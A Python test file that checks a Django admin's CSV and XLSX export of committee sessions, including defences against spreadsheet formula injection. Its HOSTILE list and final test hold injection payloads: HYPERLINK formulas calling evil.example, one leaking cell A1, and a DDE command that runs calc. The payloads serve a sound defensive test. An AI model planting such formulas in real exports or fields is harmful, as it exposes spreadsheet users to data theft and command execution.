"""Sessions with their agendas, exported from the admin as CSV and XLSX."""

import csv
import io
from datetime import UTC, datetime

import openpyxl
import pytest
from django.test import Client

from meetings.models import Session
from tests.api import secretariat_of, token_client
from tests.factories import AgendaItemFactory, CommitteeFactory, PersonFactory, SessionFactory
from tracker.spreadsheets import FORMULA_TRIGGERS

pytestmark = pytest.mark.django_db


@pytest.fixture
def sessions():
    committee = CommitteeFactory(slug="chile-peru")
    first = SessionFactory(
        committee=committee,
        number=1,
        title="First session",
        status="held",
        starts_at=datetime(2025, 12, 1, 13, 0, tzinfo=UTC),
        ends_at=datetime(2025, 12, 1, 15, 0, tzinfo=UTC),
        timezone="America/Santiago",
        venue="Cancillería, Santiago",
        host_country="CL",
    )
    chair = PersonFactory(full_name="Alberto van Klaveren")
    AgendaItemFactory(session=first, position=1, title="Opening", presenter=chair, duration_minutes=15)
    AgendaItemFactory(session=first, position=2, title="Humanitarian corridor", duration_minutes=60, outcome="Agreed")
    other = SessionFactory(committee=CommitteeFactory(slug="other"), number=1, title="Not ours")
    return first, other


def _export(client, action, *sessions):
    return client.post(
        "/admin/meetings/session/", {"action": action, "_selected_action": [str(s.pk) for s in sessions]}
    )


def test_csv_export_holds_each_session_with_its_agenda_and_clocks(admin_client, sessions):
    first, _other = sessions
    response = _export(admin_client, "export_csv", first)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    assert response["Content-Disposition"].startswith('attachment; filename="sessions-')
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows == [
        [
            "committee",
            "number",
            "title",
            "status",
            "starts (venue)",
            "ends (venue)",
            "starts (capitals)",
            "timezone",
            "venue",
            "host_country",
            "agenda",
            "uid",
        ],
        [
            "chile-peru",
            "1",
            "First session",
            "held",
            "2025-12-01 10:00 UTC-03:00 (America/Santiago)",
            "2025-12-01 12:00 UTC-03:00 (America/Santiago)",
            "Lima: 2025-12-01 08:00 UTC-05:00 (America/Lima); Santiago: 2025-12-01 10:00 UTC-03:00 (America/Santiago)",
            "America/Santiago",
            "Cancillería, Santiago",
            "CL",
            "1. Opening — Alberto van Klaveren (15 min)\n2. Humanitarian corridor (60 min): Agreed",
            first.uid,
        ],
    ]


def _sheet(response):
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def test_xlsx_export_holds_text_as_text_and_the_number_as_a_number(admin_client, sessions):
    first, _other = sessions
    response = _export(admin_client, "export_xlsx", first)
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = _sheet(response)
    assert [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()] == [
        [
            ("committee", "s"),
            ("number", "s"),
            ("title", "s"),
            ("status", "s"),
            ("starts (venue)", "s"),
            ("ends (venue)", "s"),
            ("starts (capitals)", "s"),
            ("timezone", "s"),
            ("venue", "s"),
            ("host_country", "s"),
            ("agenda", "s"),
            ("uid", "s"),
        ],
        [
            ("chile-peru", "s"),
            (1, "n"),
            ("First session", "s"),
            ("held", "s"),
            ("2025-12-01 10:00 UTC-03:00 (America/Santiago)", "s"),
            ("2025-12-01 12:00 UTC-03:00 (America/Santiago)", "s"),
            (
                "Lima: 2025-12-01 08:00 UTC-05:00 (America/Lima); "
                "Santiago: 2025-12-01 10:00 UTC-03:00 (America/Santiago)",
                "s",
            ),
            ("America/Santiago", "s"),
            ("Cancillería, Santiago", "s"),
            ("CL", "s"),
            ("1. Opening — Alberto van Klaveren (15 min)\n2. Humanitarian corridor (60 min): Agreed", "s"),
            (first.uid, "s"),
        ],
    ]
    assert (sheet.freeze_panes, sheet["A1"].font.b, sheet["K2"].alignment.wrap_text) == ("A2", True, True)


def test_a_secretariat_exports_only_its_committee(sessions):
    first, other = sessions
    client = Client()
    client.force_login(secretariat_of(first.committee, "CL"))
    sheet = _sheet(_export(client, "export_xlsx", first, other))
    assert [row[:3] for row in sheet.iter_rows(values_only=True)] == [
        ("committee", "number", "title"),
        ("chile-peru", 1, "First session"),
    ]


# Text a spreadsheet would run, and what the export writes: an apostrophe, then all of the text.
HOSTILE = [
    ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
    ('==HYPERLINK("http://evil.example","x")', '\'==HYPERLINK("http://evil.example","x")'),
    ("=x", "'=x"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("-5", "'-5"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
]


@pytest.mark.parametrize(("text", "written"), HOSTILE)
def test_text_a_spreadsheet_would_run_is_exported_inert_and_whole(admin_client, sessions, text, written):
    first, _other = sessions
    # Written straight to the table: titles with a tab or CR are refused on input, and the export
    # must be safe for any text stored.
    Session.objects.filter(pk=first.pk).update(title=text, venue=text)
    rows = list(csv.reader(io.StringIO(_export(admin_client, "export_csv", first).content.decode(), newline="")))
    assert (rows[1][2], rows[1][8]) == (written, written)
    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_TRIGGERS)] == []
    sheet = _sheet(_export(admin_client, "export_xlsx", first))
    in_xml = written.replace("\r", "\n")  # XML reads a stored CR back as a line break
    assert [(cell.value, cell.data_type) for cell in (sheet["C2"], sheet["I2"])] == [(in_xml, "s"), (in_xml, "s")]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.column_letter != "B"} == {"s"}
    assert (sheet["B2"].value, sheet["B2"].data_type) == (1, "n")


def test_text_that_looks_like_an_error_value_stays_text_in_xlsx(admin_client, sessions):
    first, _other = sessions
    Session.objects.filter(pk=first.pk).update(title="#N/A")
    cell = _sheet(_export(admin_client, "export_xlsx", first))["C2"]
    assert (cell.value, cell.data_type) == ("#N/A", "s")


def test_a_formula_planted_through_the_api_reaches_the_other_delegation_inert(sessions):
    first, _other = sessions
    planted = '=HYPERLINK("http://evil.example/?"&A1,"Agenda")'
    response = token_client(secretariat_of(first.committee, "PE")).patch(
        f"/api/v1/sessions/{first.pk}/", {"venue": planted}, format="json"
    )
    assert (response.status_code, response.json()["venue"]) == (200, planted)
    client = Client()
    client.force_login(secretariat_of(first.committee, "CL"))
    rows = list(csv.reader(io.StringIO(_export(client, "export_csv", first).content.decode(), newline="")))
    assert rows[1][8] == "'" + planted
    cell = _sheet(_export(client, "export_xlsx", first))["I2"]
    assert (cell.value, cell.data_type) == ("'" + planted, "s")
